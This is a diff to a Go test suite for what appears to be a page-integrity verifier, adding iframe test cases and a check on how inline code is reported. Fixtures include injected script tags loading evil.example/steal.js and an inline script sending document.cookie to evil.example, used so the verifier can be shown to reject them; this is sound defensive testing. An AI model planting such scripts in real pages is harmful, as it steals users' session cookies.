@@ -6,6 +6,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"path"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -135,10 +136,15 @@ func TestPageModeAccounting(t *testing.T) {
 	for _, tc := range []struct {
 		name   string
 		page   string
+		frame  string // served at /frame.html
 		extra  []string
 		code   int
 		reason string
 	}{
+		{name: "a same-origin frame that loads only the pinned artifact", page: pin + `<iframe src="/frame.html"></iframe>`, frame: pin, code: cli.ExitVerified, reason: "ok"},
+		{name: "a same-origin frame that loads an unlisted script", page: pin + `<iframe src="/frame.html"></iframe>`, frame: `<script src="https://evil.example/steal.js"></script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "a same-origin frame nested in itself is followed once", page: pin + `<iframe src="/frame.html"></iframe>`, frame: `<iframe src="/frame.html"></iframe>` + pin, code: cli.ExitVerified, reason: "ok"},
+		{name: "a same-origin frame that is not served", page: pin + `<iframe src="/missing.html"></iframe>`, code: cli.ExitInconclusive, reason: "http-status"},
 		{name: "only the pinned artifact", page: pin, code: cli.ExitVerified, reason: "ok"},
 		{name: "an injected script without integrity", page: pin + `<script src="https://evil.example/steal.js"></script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
 		{name: "an injected inline script", page: pin + `<script>fetch("https://evil.example/?"+document.cookie)</script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
@@ -163,8 +169,15 @@ func TestPageModeAccounting(t *testing.T) {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Parallel()
 			srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
-				if r.URL.Path == "/kms.html" {
+				switch r.URL.Path {
+				case "/kms.html":
 					_, _ = io.WriteString(rw, "<!doctype html>"+tc.page)
+					return
+				case "/frame.html":
+					_, _ = io.WriteString(rw, "<!doctype html>"+tc.frame)
+					return
+				case "/missing.html":
+					http.NotFound(rw, r)
 					return
 				}
 				_, _ = rw.Write(artifact)
@@ -183,6 +196,9 @@ func TestPageModeAccounting(t *testing.T) {
 			}
 			if tc.code != cli.ExitVerified && strings.Contains(res.stdout, "VERIFICATION PASSED") {
 				t.Error("a failing run says PASSED")
+			}
+			if slices.Contains(tc.extra, "--allow-inline") && !strings.Contains(res.stdout, "SKIPPED (unverified)") {
+				t.Errorf("inline code accepted by --allow-inline is not shown as SKIPPED:\n%s", res.stdout)
 			}
 			if len(res.rep.Page.References) == 0 {
 				t.Error("the report lists no page references")
